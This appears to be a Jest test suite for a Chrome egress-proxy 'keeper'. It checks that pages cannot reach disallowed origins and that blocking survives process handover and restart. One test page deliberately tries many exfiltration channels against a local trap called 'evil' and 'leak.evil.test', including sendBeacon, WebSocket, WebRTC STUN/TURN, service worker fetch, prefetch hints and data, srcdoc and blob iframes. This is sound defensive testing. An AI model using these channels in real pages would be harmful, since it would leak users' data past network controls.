/** A real Chrome whose pages try every way out that we know of, and servers that count what reaches them. */
import { createSocket } from 'node:dgram';
import { createServer, type IncomingMessage } from 'node:http';
import { createServer as createTcpServer, type AddressInfo } from 'node:net';
import { readEgressFile } from '../../../worker/keeper/egress/egress-file';
import { DEFAULT_NETWORK } from '../../support/open-network';
import { aRoot, attach, cleanUp, keeperOver, later, until } from '../fixture';

afterEach(cleanUp);
jest.setTimeout(120_000);

type Pages = Record<string, string | ((request: IncomingMessage) => { location: string })>;

async function serve(pages: Pages) {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    const page = pages[new URL(request.url ?? '/', 'http://site').pathname];
    if (typeof page === 'function') return response.writeHead(302, page(request)).end();
    const type = request.url?.endsWith('.js') === true ? 'text/javascript' : 'text/html';
    response.writeHead(page === undefined ? 404 : 200, { 'content-type': type }).end(page);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  later(() => {
    server.closeAllConnections();
    server.close();
  });
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked };
}

/** Counts connections and packets, whatever they say. */
async function trap() {
  const seen: string[] = [];
  const tcp = createTcpServer((socket) => {
    seen.push('a connection');
    socket.destroy();
  });
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
  const { port } = tcp.address() as AddressInfo;
  const udp = createSocket('udp4', () => seen.push('a packet'));
  await new Promise<void>((resolve) => udp.bind(port, '127.0.0.1', resolve));
  later(() => (tcp.close(), udp.close()));
  return { port, seen };
}

test('nothing reaches an origin that is not allowed, whatever a page tries', async () => {
  const { port, seen } = await trap();
  const evil = `http://127.0.0.1:${port}`;
  const shop = await serve({
    '/': '<title>shop</title><p id="done"></p>',
    '/redirect': () => ({ location: `${evil}/redirected` }),
    '/worker.js': `self.oninstall = (event) => event.waitUntil(fetch('${evil}/from-worker').catch(() => {}));`,
    '/ways': `<title>ways</title><link rel="dns-prefetch" href="//leak.evil.test"><link rel="preconnect" href="${evil}">
      <link rel="prefetch" href="${evil}/prefetched"><img src="${evil}/image"><iframe src="${evil}/frame"></iframe>
      <iframe src="data:text/html,<img src='${evil}/from-data'>"></iframe><script src="${evil}/script"></script>
      <iframe srcdoc="<img src='${evil}/from-srcdoc'>"></iframe><iframe src="/redirect"></iframe>`,
  });
  const browsers = await keeperOver(aRoot());
  const network = { allowedOrigins: [shop.url], allowPrivateAddresses: false };
  const access = await browsers.open({ sessionId: 's', epoch: 1, headless: true, network });
  const { page } = await attach(access);
  await page.goto(`${shop.url}/ways`);
  const tried = await page.evaluate(async (target) => {
    const within = <T>(work: Promise<T>, limitMs = 3000): Promise<T | string> =>
      Promise.race([work, new Promise<string>((resolve) => setTimeout(resolve, limitMs, 'silent'))]);
    const outcomes: string[] = [];
    const note = async (work: Promise<unknown>): Promise<void> => {
      outcomes.push(
        await within(
          work.then(
            () => 'went through',
            () => 'refused',
          ),
          20_000,
        ).then(String),
      );
    };
    await note(
      fetch(`${target}/fetch`, { mode: 'no-cors' }).then((answer) =>
        answer.type === 'opaque' ? Promise.reject(new Error('refused')) : answer,
      ),
    );
    await note(
      fetch('/redirect', { mode: 'no-cors' }).then((answer) =>
        answer.type === 'opaque' ? Promise.reject(new Error('refused')) : answer,
      ),
    );
    await note(
      new Promise((resolve, reject) => {
        const socket = new WebSocket(target.replace('http', 'ws'));
        socket.onopen = resolve;
        socket.onerror = reject;
      }),
    );
    navigator.sendBeacon(`${target}/beacon`, 'sent');
    const blob = document.createElement('iframe');
    blob.src = URL.createObjectURL(new Blob([`<img src="${target}/from-blob">`], { type: 'text/html' }));
    document.body.append(blob);
    await within(navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready));
    const peer = new RTCPeerConnection({
      iceServers: [
        { urls: `stun:${new URL(target).host}` },
        { urls: `turn:${new URL(target).host}?transport=tcp`, username: 'u', credential: 'c' },
      ],
    });
    peer.createDataChannel('out');
    await peer.setLocalDescription(await peer.createOffer());
    await within(
      new Promise(
        (resolve) =>
          (peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve('gathered')),
      ),
    );
    return outcomes;
  }, evil);
  expect(tried).toEqual(['refused', 'refused', 'refused']);
  expect((await page.goto(`${evil}/navigated`))?.status()).toBe(403);
  const tls = `https://127.0.0.1:${port}/`;
  await expect(page.goto(tls)).rejects.toThrow('ERR_TUNNEL_CONNECTION_FAILED');
  await page.waitForURL('chrome-error://chromewebdata/');
  // Time for whatever was begun: one more round trip through the proxy after all of it.
  expect((await page.goto(shop.url))?.status()).toBe(200);
  expect(seen).toEqual([]);
  expect(await browsers.blockedOrigins('s')).toEqual(
    expect.arrayContaining([
      expect.objectContaining({ origin: evil, guard: 'allowed-origins' }),
      expect.objectContaining({ origin: `https://127.0.0.1:${port}`, guard: 'allowed-origins' }),
    ]),
  );
  // Chrome itself asked for nothing: every origin is one that a page named.
  expect(
    (await browsers.blockedOrigins('s'))
      .map(({ origin }) => new URL(origin).hostname)
      .filter((host) => host !== '127.0.0.1' && host !== 'leak.evil.test'),
  ).toEqual([]);
});

test('the successor of a keeper continues as the proxy of its Chromes, and knows what was blocked', async () => {
  const { port, seen } = await trap();
  const shop = await serve({ '/': '<title>shop</title>' });
  const root = aRoot();
  const first = await keeperOver(root);
  const network = { allowedOrigins: [shop.url], allowPrivateAddresses: false };
  const before = await first.open({ sessionId: 's', epoch: 1, headless: true, network });
  const { page } = await attach(before);
  await page.goto(shop.url);
  await page.goto(`http://127.0.0.1:${port}/`);
  await first.stop({ endBrowsers: false });

  const second = await keeperOver(root);
  const access = await second.open({ sessionId: 's', epoch: 2, headless: true });
  const { pid } = access;
  expect(pid).toBe(before.pid);
  const again = await attach(access);
  expect((await again.page.goto(shop.url))?.status()).toBe(200);
  expect((await again.page.goto(`http://127.0.0.1:${port}/`))?.status()).toBe(403);
  expect(await second.blockedOrigins('s')).toMatchObject([
    { origin: `http://127.0.0.1:${port}`, guard: 'allowed-origins' },
  ]);
  expect(seen).toEqual([]);
});

test('a Chrome reaches its sites again when its egress is killed, and what it may reach can change', async () => {
  const shop = await serve({ '/': '<title>shop</title>' });
  const root = aRoot();
  const keeper = await keeperOver(root, { network: DEFAULT_NETWORK });
  const network = { allowPrivateAddresses: false, givenOrigins: [shop.url] };
  const access = await keeper.open({ sessionId: 's', epoch: 1, headless: true, network });
  const { page } = await attach(access);
  await page.goto(shop.url);
  const { pid } = readEgressFile(root)!;
  process.kill(pid, 'SIGKILL');
  await until('another process is there', () => readEgressFile(root)!.pid !== pid);
  await until('the site is reached', async () => (await page.goto(shop.url).catch(() => undefined))?.status() === 200);
  await keeper.setNetwork({ sessionId: 's', epoch: 1, network: { allowPrivateAddresses: false } });
  expect((await page.goto(shop.url))?.status()).toBe(403);
  expect(await keeper.blockedOrigins('s')).toMatchObject([{ origin: shop.url, guard: 'private-address' }]);
});
